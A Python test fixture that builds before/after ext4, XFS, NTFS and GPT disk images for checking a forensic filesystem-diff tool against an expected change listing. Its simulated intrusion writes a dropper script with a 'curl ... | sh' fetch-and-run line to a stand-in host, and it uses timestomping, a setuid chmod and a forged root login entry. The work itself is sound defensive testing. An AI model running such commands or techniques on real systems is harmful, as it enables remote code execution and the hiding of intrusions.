"""Before/after snapshot pairs made as an incident would make them: a filesystem built
with mkfs and filled through a read-write mount, a copy of it, and that copy mounted
again and changed with ordinary tools (a write in place whose mtime is put back with
`touch -d`, an append, a new directory and file, a deletion, a rename, a chmod, a
timestomp). Needs root (loop devices; NTFS through ntfs-3g/FUSE).

`SCENARIO` knows the exact listing `ebsfs diff --files` must give for the changes."""

from __future__ import annotations

import contextlib
import os
import random
import shutil
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.disks import _ntfs3g, _run, _unmount, loop_device

MiB = 1024 * 1024
RW_OPTIONS = {"ext4": "rw", "xfs": "rw,nouuid"}


def mkfs(fstype: str, path: Path, size: int, offset: int = 0) -> None:
    """An empty filesystem in `path` (at `offset` bytes into it, for a partition)."""
    with loop_device(path, offset, size, writable=True) as device:
        if fstype == "ext4":
            _run(["mkfs.ext4", "-q", "-F", "-b", "4096", device])
        elif fstype == "xfs":
            _run(
                ["mkfs.xfs", "-q", "-f", device],
                {"TEST_DIR": "/tmp", "TEST_DEV": device, "QA_CHECK_FS": "xfs"},
            )
        elif fstype == "ntfs":
            _run(
                [
                    "mkntfs",
                    "-q",
                    "-F",
                    "-Q",
                    "-p",
                    str(offset // 512),
                    "-H",
                    "255",
                    "-S",
                    "63",
                    device,
                ]
            )
        else:
            raise ValueError(fstype)


@contextlib.contextmanager
def mounted_rw(
    fstype: str, file: Path, target: Path, offset: int = 0, size: int | None = None
) -> Iterator[Path]:
    """`file` (or a partition of it) mounted read-write; always unmounted, synced and
    detached."""
    target.mkdir(parents=True, exist_ok=True)
    with loop_device(file, offset, size, writable=True) as device:
        if fstype == "ntfs":
            with _ntfs3g(device, target, "rw"):
                yield target
            return
        _run(["mount", "-t", fstype, "-o", RW_OPTIONS[fstype], device, str(target)])
        try:
            yield target
        finally:
            subprocess.run(["sync"], capture_output=True)
            _unmount(target)


def copy_sparse(src: Path, dst: Path) -> None:
    _run(["cp", "--sparse=always", str(src), str(dst)])


# -- the scenario -----------------------------------------------------------------------


def populate(root: Path, bulk_bytes: int = 0, seed: int = 1) -> None:
    """The "before" tree: a small system-like tree, 300 small neighbours that share
    blocks with the files the scenario changes, and `bulk_bytes` of larger files."""
    rng = random.Random(seed)
    files = {
        "etc/passwd": b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/sh\n",
        "etc/hostname": b"web-1\n",
        "var/log/auth.log": b"".join(
            b"Nov 22 0%d:00:00 web-1 sshd[%d]: session opened\n" % (i % 10, 100 + i)
            for i in range(400)
        ),
        "home/alice/notes.txt": b"rotate the deploy key\n",
        "home/alice/todo.txt": b"buy milk\n",
        "srv/data/report.txt": b"Q3 numbers\n" * 100,
        "usr/bin/tool": rng.randbytes(300 * 1024),
        "usr/bin/helper": rng.randbytes(20 * 1024),
        "srv/data/blob.bin": rng.randbytes(3 * MiB + 4099),
        "tmp/.keep": b"",
    }
    for i in range(300):
        files[f"usr/share/doc/pkg{i:03d}/README"] = f"package {i}\n".encode() * (1 + i % 7)
    for name, data in files.items():
        target = root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    done, k = 0, 0
    while done < bulk_bytes:
        size = min(bulk_bytes - done, rng.choice([64 * 1024, 1 * MiB, 8 * MiB, 24 * MiB]))
        target = root / f"opt/bulk/{k // 50:02d}/file{k:04d}.bin"
        target.parent.mkdir(parents=True, exist_ok=True)
        with open(target, "wb") as f:
            for start in range(0, size, MiB):
                f.write(rng.randbytes(min(MiB, size - start)))
        done += size
        k += 1
    os.symlink("/usr/share/zoneinfo/UTC", root / "etc/localtime")


def touch_d(path: Path, ns: int) -> None:
    """Put a file's mtime (and atime) back with touch -d, as an intruder would."""
    seconds, fraction = divmod(ns, 10**9)
    _run(["touch", "-d", f"@{seconds}.{fraction:09d}", str(path)])


def change(root: Path, fstype: str) -> None:
    """The "after" changes, made with ordinary tools on the mounted copy."""
    time.sleep(0.05)  # every change gets times after the "before" ones
    tool = root / "usr/bin/tool"
    mtime = tool.stat().st_mtime_ns
    _run(
        [
            "dd",
            f"of={tool}",
            "bs=4096",
            "seek=20",
            "count=2",
            "conv=notrunc",
            "status=none",
            "if=/dev/urandom",
        ]
    )
    touch_d(tool, mtime)
    with open(root / "var/log/auth.log", "ab") as f:
        f.write(
            b"Nov 23 03:14:15 web-1 sshd[6666]: Accepted password for root from "
            b"203.0.113.66 port 31337\n"
        )
    (root / "tmp/.x").mkdir()
    (root / "tmp/.x/payload.sh").write_bytes(b"#!/bin/sh\ncurl -s http://203.0.113.66/p | sh\n")
    (root / "home/alice/todo.txt").unlink()
    (root / "srv/data/report.txt").rename(root / "srv/data/report-final.txt")
    if fstype != "ntfs":  # ntfs-3g keeps no permissions unless mounted to
        _run(["chmod", "4755", str(root / "usr/bin/helper")])
    touch_d(root / "etc/passwd", 1_500_000_000 * 10**9)  # timestomped, content the same
    _run(["sync"])


def expected(fstype: str) -> list[tuple[str, ...]]:
    """(status, path[, new path]) the listing must hold, exactly: the changed names and
    the directories whose entries changed."""
    lines: list[tuple[str, ...]] = [
        ("M", "/usr/bin/tool"),
        ("M", "/var/log/auth.log"),
        ("M", "/tmp"),
        ("A", "/tmp/.x"),
        ("A", "/tmp/.x/payload.sh"),
        ("M", "/home/alice"),
        ("D", "/home/alice/todo.txt"),
        ("M", "/srv/data"),
        ("R", "/srv/data/report.txt", "/srv/data/report-final.txt"),
        ("M", "/etc/passwd"),
    ]
    if fstype != "ntfs":
        lines.append(("M", "/usr/bin/helper"))
    return sorted(lines)


@dataclass
class Pair:
    before: Path
    after: Path
    fstype: str
    offset: int = 0
    size: int | None = None


def make_pair(fstype: str, directory: Path, size: int, bulk_bytes: int = 0) -> Pair:
    """A bare filesystem of `size` bytes, before and after the scenario's changes."""
    before, after = directory / f"{fstype}-before.img", directory / f"{fstype}-after.img"
    with open(before, "wb") as f:
        f.truncate(size)
    mkfs(fstype, before, size)
    with mounted_rw(fstype, before, directory / "mnt") as mnt:
        populate(mnt, bulk_bytes)
    copy_sparse(before, after)
    with mounted_rw(fstype, after, directory / "mnt") as mnt:
        change(mnt, fstype)
    shutil.rmtree(directory / "mnt", ignore_errors=True)
    return Pair(before, after, fstype)


GPT_PARTS = [
    (1, "ext4", 1 * MiB, 64 * MiB),
    (2, "xfs", 65 * MiB, 300 * MiB),
    (3, "ntfs", 365 * MiB, 64 * MiB),
    (4, "none", 429 * MiB, 16 * MiB),
]
"""A GPT disk of the three filesystems and a partition holding no filesystem."""


def make_gpt_pair(directory: Path, size: int = 448 * MiB) -> tuple[Path, Path]:
    """A GPT disk with GPT_PARTS, before and after the scenario's changes in each
    filesystem (and some bytes written into the partition with none)."""
    before, after = directory / "gpt-before.img", directory / "gpt-after.img"
    with open(before, "wb") as f:
        f.truncate(size)
    table = "label: gpt\n" + "".join(
        f"start={o // 512}, size={n // 512}, type=linux\n" for _, _, o, n in GPT_PARTS
    )
    _run(["sfdisk", "--quiet", "--no-reread", "--no-tell-kernel", str(before)], input=table)
    for _, fstype, offset, psize in GPT_PARTS:
        if fstype == "none":
            continue
        mkfs(fstype, before, psize, offset)
        with mounted_rw(fstype, before, directory / "mnt", offset, psize) as mnt:
            populate(mnt)
    copy_sparse(before, after)
    for _, fstype, offset, psize in GPT_PARTS:
        if fstype == "none":
            with open(after, "r+b") as f:
                f.seek(offset + 5 * MiB)
                f.write(b"not a filesystem" * 1000)
            continue
        with mounted_rw(fstype, after, directory / "mnt", offset, psize) as mnt:
            change(mnt, fstype)
    shutil.rmtree(directory / "mnt", ignore_errors=True)
    return before, after
